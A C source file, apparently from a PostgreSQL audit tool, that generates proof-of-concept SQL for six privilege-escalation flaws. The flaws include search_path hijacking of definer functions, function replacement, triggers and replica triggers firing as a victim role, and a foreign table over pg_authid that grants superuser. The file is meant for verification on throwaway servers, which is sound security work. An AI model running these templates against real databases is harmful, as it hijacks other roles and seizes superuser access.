/*
 * Proofs of the breaches F1 to F6.  F1 to F4: SQL that plants code as the one who can, and
 * lets the victim's session run it.  It succeeds when the code saw itself run as the victim,
 * else it raises an error.  Run inside a transaction that is rolled back, on a throwaway
 * server, by a superuser's connection under SET SESSION AUTHORIZATION: a proof becomes the
 * victim by the same means.
 *
 * F5: the function is called, with arguments that its types take.  F6: the foreign server
 * logs in, and says as whom; a subscription's worker is stood in for by a session.
 *
 * Names come in by set_config, since nothing in a dollar-quoted body can be quoted safely.
 * All are templates, so each % is doubled; and no statement in a body ends a line, since
 * ";\n" stands between the statements of a template.
 */
#include "audit/pg_code.h"

/* What the planted code does. */
#define SPRING								\
	"'BEGIN IF current_user = pg_catalog.current_setting(''bulkhead.victim'') THEN " \
	"RAISE EXCEPTION SQLSTATE ''BH001''; END IF; "
#define TRAP "CREATE FUNCTION %%s.bulkhead_trap() RETURNS boolean LANGUAGE plpgsql AS "	\
	"' || quote_literal(" SPRING "RETURN true; END') || '"
/* What springs it, or not. */
#define TRY(sql)							\
	"BEGIN EXECUTE " sql "; EXCEPTION WHEN SQLSTATE 'BH001' THEN RETURN; "	\
	"WHEN OTHERS THEN NULL; END; "
#define BECOME_VICTIM							\
	"EXECUTE format('SET LOCAL SESSION AUTHORIZATION %%I', "		\
	"current_setting('bulkhead.victim')); "
/* No refusal: it may only be that no row was there to run it for. */
#define NOT_RUN "RAISE EXCEPTION SQLSTATE '02000' USING MESSAGE = 'the code did not run as ' " \
    "|| current_setting('bulkhead.victim'); "
#define TYPE_NAME "quote_ident(n.nspname) || '.' || quote_ident(t.typname)"
/* v becomes some value of type ty, as SQL. */
#define SAMPLE								\
	"v := 'NULL'; FOREACH w IN ARRAY ARRAY['1', 't', '2000-01-01', '{}', '127.0.0.1', "	\
	"'11111111-1111-1111-1111-111111111111', ''] LOOP BEGIN "		\
	"EXECUTE format('SELECT %%L::%%s', w, ty); v := format('%%L::%%s', w, ty); EXIT; "	\
	"EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; "

/* For each column of rel that such a role may insert into: cols and vals get a value. */
#define FOR_COLUMNS(role)						\
	"FOR col IN SELECT a.attname, a.atthasdef, " TYPE_NAME " AS ty FROM pg_attribute a " \
	"JOIN pg_type t ON t.oid = a.atttypid JOIN pg_namespace n ON n.oid = t.typnamespace " \
	"WHERE a.attrelid = rel AND a.attnum > 0 AND NOT a.attisdropped "	\
	"AND a.attgenerated = '' AND a.attidentity = '' AND has_column_privilege(" role	\
	", rel, a.attnum, 'INSERT') LOOP ty := col.ty; " SAMPLE		\
	"cols := concat_ws(', ', nullif(cols, ''), quote_ident(col.attname)); "	\
	"vals := concat_ws(', ', nullif(vals, ''), v); "

/*
 * In front of each name in the function's body that is a type, a table or a function, put
 * one of our own; then call it, with arguments that its types take.  What is written in C
 * shows no names: then it is each table's.
 */
static const char definer[] =
    "DO $bulkhead$ DECLARE fn regprocedure := current_setting('bulkhead.function'); "
    "s text := current_setting('bulkhead.schema'); w text; v text; ty text; args text := ''; "
    "call text; r record; p record; col record; rel regclass; cols text := ''; vals text := ''; "
    "BEGIN IF s <> 'pg_temp' THEN s := quote_ident(s); END IF; "
    "SELECT x.*, n.nspname INTO p FROM pg_proc x JOIN pg_namespace n ON n.oid = x.pronamespace "
    "WHERE x.oid = fn; "
    "IF s <> 'pg_temp' THEN BEGIN EXECUTE format('CREATE SCHEMA %%s', s); "
    "EXCEPTION WHEN OTHERS THEN NULL; END; "
    "BEGIN EXECUTE format('GRANT USAGE ON SCHEMA %%s TO PUBLIC', s); "
    "EXCEPTION WHEN OTHERS THEN NULL; END; END IF; "
    "IF s = 'bulkhead_new' THEN CREATE SCHEMA bulkhead_new; "
    "GRANT USAGE ON SCHEMA bulkhead_new TO PUBLIC; END IF; "
    "EXECUTE format('" TRAP "', s); "
    "FOR w IN SELECT DISTINCT m[1] FROM pg_proc x, "
    "regexp_matches(x.prosrc, '[[:alpha:]_]\\w*', 'g') m WHERE x.oid = fn OR x.oid IN "
    "(SELECT d.refobjid FROM pg_depend d WHERE d.classid = 'pg_proc'::regclass "
    "AND d.objid = fn AND d.refclassid = 'pg_proc'::regclass) "
    "UNION SELECT c.relname::text FROM pg_class c WHERE c.relkind IN ('r', 'p', 'v') "
    "AND c.oid >= 16384 AND EXISTS (SELECT FROM pg_language l WHERE l.oid = p.prolang "
    "AND l.lanname = 'c') LOOP "
    "BEGIN IF s = 'pg_temp' AND EXISTS (SELECT FROM pg_type t WHERE t.typname = w "
    "AND t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b') THEN "
    "EXECUTE format('CREATE DOMAIN pg_temp.%%1$I AS pg_catalog.%%1$I "
    "CHECK (pg_temp.bulkhead_trap())', w); END IF; EXCEPTION WHEN OTHERS THEN NULL; END; "
    "BEGIN SELECT c.oid::regclass AS name INTO r FROM pg_class c WHERE c.relname = w "
    "AND c.relkind IN ('r', 'p', 'v', 'm', 'f') "
    "AND c.relnamespace::regnamespace::pg_catalog.text !~ '^pg_(temp|toast)' LIMIT 1; "
    "IF FOUND THEN EXECUTE format('CREATE VIEW %%1$s.%%2$I AS SELECT (q.r).* FROM (SELECT "
    "NULL::%%3$s AS r, %%1$s.bulkhead_trap() AS c OFFSET 0) q WHERE q.c', s, w, r.name); "
    "EXECUTE format('GRANT ALL ON %%s.%%I TO PUBLIC', s, w); END IF; "
    "EXCEPTION WHEN OTHERS THEN NULL; END; "
    "IF s <> 'pg_temp' THEN FOR r IN SELECT pg_get_function_identity_arguments(x.oid) AS a, "
    "pg_get_function_result(x.oid) AS b FROM pg_proc x WHERE x.proname = w "
    "AND x.prokind = 'f' AND x.oid <> fn LIMIT 50 LOOP BEGIN "
    "EXECUTE format('CREATE FUNCTION %%s.%%I(%%s) RETURNS %%s LANGUAGE plpgsql AS %%L', "
    "s, w, r.a, r.b, " SPRING "END'); EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END IF; "
    "END LOOP; "
    "IF current_setting('bulkhead.own_path') = '0' THEN PERFORM set_config('search_path', "
    "CASE WHEN s = 'pg_temp' THEN '' ELSE s || ', ' END || quote_ident(p.nspname) "
    "|| ', public, pg_catalog', true); END IF; "
    "SELECT t.tgrelid INTO rel FROM pg_trigger t WHERE t.tgfoid = fn "
    "AND has_table_privilege(t.tgrelid, 'INSERT') LIMIT 1; "
    "IF rel IS NOT NULL THEN " FOR_COLUMNS("current_user") "END LOOP; "
    "call := format('INSERT INTO %%s DEFAULT VALUES', rel); "
    "ELSIF p.prorettype = 'trigger'::regtype THEN "
    "CREATE TEMP TABLE bulkhead_t (x pg_catalog.int4); EXECUTE format('CREATE TRIGGER t "
    "BEFORE INSERT ON pg_temp.bulkhead_t FOR EACH ROW EXECUTE FUNCTION %%I.%%I()', "
    "p.nspname, p.proname); call := 'INSERT INTO pg_temp.bulkhead_t VALUES (1)'; ELSE "
    "FOR ty IN SELECT " TYPE_NAME " FROM unnest(p.proargtypes) WITH ORDINALITY AS o(oid, i) "
    "JOIN pg_type t ON t.oid = o.oid JOIN pg_namespace n ON n.oid = t.typnamespace "
    "ORDER BY o.i LOOP " SAMPLE "args := concat_ws(', ', nullif(args, ''), v); END LOOP; "
    "call := format(CASE p.prokind WHEN 'p' THEN 'CALL' ELSE 'SELECT' END || ' %%I.%%I(%%s)', "
    "p.nspname, p.proname, args); "
    "IF NOT has_function_privilege(fn, 'EXECUTE') "
    "OR NOT has_schema_privilege(p.pronamespace, 'USAGE') THEN " BECOME_VICTIM "END IF; END IF; "
    TRY("call") "IF rel IS NOT NULL THEN "
    TRY("format('INSERT INTO %%s (%%s) VALUES (%%s)', rel, cols, vals)") "END IF; "
    NOT_RUN "END $bulkhead$";

/* Replace the function; then the victim writes to the table, or reads it. */
static const char replaced[] =
    "DO $bulkhead$ DECLARE fn regprocedure := current_setting('bulkhead.function'); "
    "rel regclass; w text; v text; ty text; "
    "col record; cols text := ''; vals text := ''; must text := ''; mine text := ''; BEGIN "
    "EXECUTE (SELECT format('CREATE OR REPLACE FUNCTION %%I.%%I(%%s) RETURNS %%s LANGUAGE "
    "plpgsql AS %%L', n.nspname, p.proname, pg_get_function_arguments(p.oid), "
    "pg_get_function_result(p.oid), " SPRING "END') FROM pg_proc p JOIN pg_namespace n "
    "ON n.oid = p.pronamespace WHERE p.oid = fn); "
    BECOME_VICTIM	/* who plants it may not even see the table */
    "rel := nullif(current_setting('bulkhead.relation'), ''); "
    FOR_COLUMNS("current_setting('bulkhead.victim')")
    "IF NOT col.atthasdef THEN must := concat_ws(', ', nullif(must, ''), quote_ident(col.attname)); "
    "mine := concat_ws(', ', nullif(mine, ''), v); END IF; END LOOP; "
    "IF rel IS NULL THEN "
    TRY("'CREATE TEMP TABLE bulkhead_t ()'") TRY("'DROP TABLE bulkhead_t'") "ELSE "
    TRY("format('INSERT INTO %%s DEFAULT VALUES', rel)")
    TRY("format('INSERT INTO %%s (%%s) VALUES (%%s)', rel, must, mine)")
    TRY("format('INSERT INTO %%s (%%s) VALUES (%%s)', rel, cols, vals)")
    TRY("format('SELECT * FROM %%s', rel)")
    "FOR w IN SELECT quote_ident(a.attname) FROM pg_attribute a WHERE a.attrelid = rel "
    "AND a.attnum > 0 AND NOT a.attisdropped LOOP "
    TRY("format('SELECT %%s FROM %%s', w, rel)")
    TRY("format('INSERT INTO %%s (%%s) VALUES (''x''::text)', rel, w)")
    TRY("format('UPDATE %%s SET %%s = %%s', rel, w, w)") "END LOOP; "
    TRY("format('DELETE FROM %%s', rel)") TRY("format('TRUNCATE %%s', rel)") "END IF; "
    NOT_RUN "END $bulkhead$";

/* A trigger for each statement fires without a row. */
static const char trigger[] =
    "DO $bulkhead$ DECLARE rel regclass := current_setting('bulkhead.relation'); w text; "
    "s text := 'pg_temp'; BEGIN "
    "IF NOT has_database_privilege(current_database(), 'TEMPORARY') THEN "
    "SELECT quote_ident(n.nspname) INTO s FROM pg_namespace n "
    "WHERE has_schema_privilege(n.oid, 'CREATE') LIMIT 1; END IF; "
    "EXECUTE format('CREATE FUNCTION %%s.bulkhead_fire() RETURNS trigger LANGUAGE plpgsql AS "
    "%%L', s, " SPRING "RETURN NULL; END'); "
    "EXECUTE format('CREATE TRIGGER bulkhead BEFORE INSERT OR UPDATE OR DELETE ON %%s "
    "FOR EACH STATEMENT EXECUTE FUNCTION %%s.bulkhead_fire()', rel, s); "
    BECOME_VICTIM
    TRY("format('DELETE FROM %%s WHERE false', rel)")
    "FOR w IN SELECT quote_ident(a.attname) FROM pg_attribute a WHERE a.attrelid = rel "
    "AND a.attnum > 0 AND NOT a.attisdropped LOOP "
    TRY("format('INSERT INTO %%s (%%s) SELECT NULL WHERE false', rel, w)")
    TRY("format('UPDATE %%s SET %%s = NULL WHERE false', rel, w)") "END LOOP; "
    NOT_RUN "END $bulkhead$";

/*
 * What a subscription's worker does: as its owner, and a replica, it writes rows.  Only a
 * trigger that is for replicas, too, fires then.
 */
static const char applied[] =
    "DO $bulkhead$ DECLARE rel regclass := current_setting('bulkhead.relation'); w text; v text; "
    "ty text; s text; col record; cols text := ''; vals text := ''; BEGIN "
    "SELECT quote_ident(n.nspname) INTO s FROM pg_namespace n "
    "WHERE has_schema_privilege(n.oid, 'CREATE') ORDER BY n.oid DESC LIMIT 1; "
    "EXECUTE format('CREATE FUNCTION %%s.bulkhead_fire() RETURNS trigger LANGUAGE plpgsql AS "
    "%%L', coalesce(s, 'pg_temp'), " SPRING "RETURN NEW; END'); "
    "EXECUTE format('CREATE TRIGGER bulkhead BEFORE INSERT ON %%s "
    "FOR EACH ROW EXECUTE FUNCTION %%s.bulkhead_fire()', rel, coalesce(s, 'pg_temp')); "
    "EXECUTE format('ALTER TABLE %%s ENABLE REPLICA TRIGGER bulkhead', rel); "
    "SET LOCAL SESSION AUTHORIZATION DEFAULT; SET LOCAL session_replication_role = replica; "
    BECOME_VICTIM FOR_COLUMNS("current_user") "END LOOP; "
    TRY("format('INSERT INTO %%s (%%s) VALUES (%%s)', rel, cols, vals)")
    NOT_RUN "END $bulkhead$";

/* lower(varchar) beats pg_catalog's lower(text), wherever in the path it is. */
static const char path[] =
    "DO $bulkhead$ DECLARE s text := quote_ident(current_setting('bulkhead.schema')); BEGIN "
    "IF current_setting('bulkhead.make') = '1' THEN EXECUTE format('CREATE SCHEMA %%s', s); "
    "END IF; BEGIN EXECUTE format('GRANT USAGE ON SCHEMA %%s TO PUBLIC', s); "
    "EXCEPTION WHEN OTHERS THEN NULL; END; "
    "EXECUTE format('CREATE FUNCTION %%s.lower(varchar) RETURNS text LANGUAGE plpgsql AS %%L', "
    "s, " SPRING "RETURN NULL; END'); "
    BECOME_VICTIM
    "PERFORM set_config('search_path', current_setting('bulkhead.path'), true); "
    TRY("'SELECT lower(''x''::varchar)'")
    NOT_RUN "END $bulkhead$";

/*
 * What it does with such arguments is its own affair: an error of its own tells that it ran.
 * One of class 42 may come before that; and who gives a strict function NULL calls nobody.
 */
static const char called[] =
    "DO $bulkhead$ DECLARE fn regprocedure := current_setting('bulkhead.function'); "
    "w text; v text; ty text; args text := ''; p record; BEGIN "
    "SELECT x.*, n.nspname INTO p FROM pg_proc x JOIN pg_namespace n ON n.oid = x.pronamespace "
    "WHERE x.oid = fn; "
    "FOR ty IN SELECT " TYPE_NAME " FROM unnest(p.proargtypes) WITH ORDINALITY AS o(oid, i) "
    "JOIN pg_type t ON t.oid = o.oid JOIN pg_namespace n ON n.oid = t.typnamespace "
    "ORDER BY o.i LOOP " SAMPLE "IF v = 'NULL' AND p.proisstrict THEN "
    "RAISE EXCEPTION SQLSTATE '02000' USING MESSAGE = 'no value is known for its arguments'; "
    "END IF; args := concat_ws(', ', nullif(args, ''), v); END LOOP; "
    "BEGIN EXECUTE format(CASE p.prokind WHEN 'p' THEN 'CALL' ELSE 'SELECT' END "
    "|| ' %%I.%%I(%%s)', p.nspname, p.proname, args); "
    "EXCEPTION WHEN OTHERS THEN IF sqlstate ~ '^(42|0A)' THEN RAISE; END IF; END; "
    "END $bulkhead$";

/*
 * By dblink, which runs anything there; or, as a superuser, by a foreign table of one's own,
 * since rows of pg_authid make superusers.  (password_required is for foreign tables only.)
 */
static const char logged_in[] =
    "DO $bulkhead$ DECLARE s text; u text; why text; srv text := current_setting('bulkhead.server'); "
    "target text := current_setting('bulkhead.target'); BEGIN "
    "SELECT quote_ident(n.nspname) INTO s FROM pg_extension e JOIN pg_namespace n "
    "ON n.oid = e.extnamespace WHERE e.extname = 'dblink' "
    "AND has_schema_privilege(n.oid, 'USAGE'); "
    "IF s IS NOT NULL THEN BEGIN "
    "EXECUTE format('SELECT %%s.dblink_connect(%%L, %%L)', s, 'bulkhead', srv); "
    "EXECUTE format('SELECT u FROM %%s.dblink(%%L, %%L) AS t(u text)', s, 'bulkhead', "
    "'SELECT session_user') INTO u; "
    "EXECUTE format('SELECT %%s.dblink_disconnect(%%L)', s, 'bulkhead'); "
    "IF u = target THEN RETURN; END IF; EXCEPTION WHEN SQLSTATE '2F003' THEN why := sqlerrm; END; "
    "END IF; "
    "IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = target AND rolsuper) THEN "
    "RAISE EXCEPTION USING ERRCODE = CASE WHEN why IS NULL THEN '02000' ELSE '2F003' END, "
    "MESSAGE = coalesce(why, 'nothing here runs statements as ' || target); END IF; "
    "s := 'pg_temp'; IF NOT has_database_privilege(current_database(), 'TEMPORARY') THEN "
    "SELECT quote_ident(n.nspname) INTO s FROM pg_namespace n "
    "WHERE has_schema_privilege(n.oid, 'CREATE') LIMIT 1; END IF; "
    "EXECUTE format('CREATE FOREIGN TABLE %%s.bulkhead_proof (rolname name, rolsuper bool) "
    "SERVER %%I OPTIONS (schema_name ''pg_catalog'', table_name ''pg_authid'')', "
    "coalesce(s, 'pg_temp'), srv); "
    "EXECUTE format('UPDATE %%s.bulkhead_proof SET rolsuper = true WHERE rolname = current_user', "
    "coalesce(s, 'pg_temp')); "
    "END $bulkhead$";

static void
say(struct audit_pg *a, struct buf *b, const char *name, const char *value)
{
	buf_fmt(b, "SELECT set_config('bulkhead.%s', ", name);
	buf_str(b, audit_pg_literal(a, value));
	buf_str(b, ", true);\n");
}

static const char *
proof(struct audit_pg *a, struct buf *b, const char *body)
{
	const char *out;

	buf_str(b, body);
	out = graph_string(a->g, buf_cstr(b));
	buf_free(b);
	return out;
}

const char *
proof_definer(struct code *c, const char *function, const char *owner,
    const char *trap_schema, int own_path)
{
	struct buf b = BUF_INIT;

	say(c->a, &b, "function", function);
	say(c->a, &b, "victim", owner);
	say(c->a, &b, "schema", trap_schema);
	say(c->a, &b, "own_path", own_path ? "1" : "0");
	return proof(c->a, &b, definer);
}

const char *
proof_replaced(struct code *c, const char *function, const char *relation, const char *victim)
{
	struct buf b = BUF_INIT;

	say(c->a, &b, "function", function);
	say(c->a, &b, "relation", relation != NULL ? relation : "");
	say(c->a, &b, "victim", victim);
	return proof(c->a, &b, replaced);
}

const char *
proof_trigger(struct code *c, const char *relation, const char *victim)
{
	struct buf b = BUF_INIT;

	say(c->a, &b, "relation", relation);
	say(c->a, &b, "victim", victim);
	return proof(c->a, &b, trigger);
}

const char *
proof_applied(struct audit_pg *a, const char *relation, const char *owner)
{
	struct buf b = BUF_INIT;

	say(a, &b, "relation", relation);
	say(a, &b, "victim", owner);
	return proof(a, &b, applied);
}

const char *
proof_path(struct code *c, const char *schema, int make_schema, const char *victim,
    const char *search_path)
{
	struct buf b = BUF_INIT;

	say(c->a, &b, "schema", schema);
	say(c->a, &b, "make", make_schema ? "1" : "0");
	say(c->a, &b, "victim", victim);
	say(c->a, &b, "path", search_path);
	return proof(c->a, &b, path);
}

const char *
proof_called(struct audit_pg *a, const char *function)
{
	struct buf b = BUF_INIT;

	say(a, &b, "function", function);
	return proof(a, &b, called);
}

const char *
proof_logged_in(struct audit_pg *a, const char *server, const char *target)
{
	struct buf b = BUF_INIT;

	say(a, &b, "server", server);
	say(a, &b, "target", target);
	return proof(a, &b, logged_in);
}
